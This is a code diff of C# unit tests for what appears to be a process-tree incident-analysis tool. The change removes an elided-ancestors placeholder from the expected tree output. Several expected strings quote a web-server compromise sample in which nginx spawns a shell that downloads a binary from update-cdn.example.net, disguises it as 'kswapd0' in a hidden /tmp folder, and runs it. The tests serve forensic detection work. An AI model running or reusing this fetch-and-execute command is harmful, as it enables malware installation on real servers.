@@ -99,15 +99,14 @@ public class HelpExampleTests
         Assert.Equal(new[]
         {
             "host: " + path,
-            "(ancestors left out) [gap]",
-            "└─ systemd (1): /sbin/init",
-            "   └─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
-            "      └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
-            "         └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
-            "            └─ nginx (24311) [thread]: /usr/sbin/nginx",
-            "               └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
-            "                  └─ sh (24313) [thread]: /usr/bin/dash",
-            "                     └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
+            "systemd (1): /sbin/init",
+            "└─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
+            "   └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
+            "      └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
+            "         └─ nginx (24311) [thread]: /usr/sbin/nginx",
+            "            └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
+            "               └─ sh (24313) [thread]: /usr/bin/dash",
+            "                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
         }, sink.Emitted.Cast<string>());
         Assert.Empty(sink.Errors);
     }
@@ -117,7 +116,7 @@ public class HelpExampleTests
     {
         var sink = Tree(new TreeCommandOptions { Tree = new ProcessTreeOptions { Names = { "curl" }, Ancestry = true } }, Sample("linux", "incident-web01.jsonl.gz"));
         var nodes = sink.EmittedOf<ProcessNode>();
-        Assert.Equal(new long?[] { null, 1, 1187, 1187, 1189, 24311, 24311, 24313, 24313 }, nodes.Select(n => n.Pid));
+        Assert.Equal(new long?[] { 1, 1187, 1187, 1189, 24311, 24311, 24313, 24313 }, nodes.Select(n => n.Pid));
         Assert.True(nodes[^1].IsSelected);
         Assert.Equal(5, nodes[^1].EventCount);
     }
@@ -128,7 +127,7 @@ public class HelpExampleTests
         var sink = Tree(new TreeCommandOptions { Output = TreeOutput.Mermaid, Tree = new ProcessTreeOptions { Names = { "curl" }, Ancestry = true } }, Sample("linux", "incident-web01.jsonl"));
         string mermaid = Assert.IsType<string>(Assert.Single(sink.Emitted));
         Assert.StartsWith("flowchart TD\n", mermaid.Replace("\r\n", "\n"));
-        Assert.Contains("n9[\"curl (24313) [exec, selected]<br/>curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0<br/>5 events\"]:::selected", mermaid);
+        Assert.Contains("n8[\"curl (24313) [exec, selected]<br/>curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0<br/>5 events\"]:::selected", mermaid);
     }
 
     [Fact]
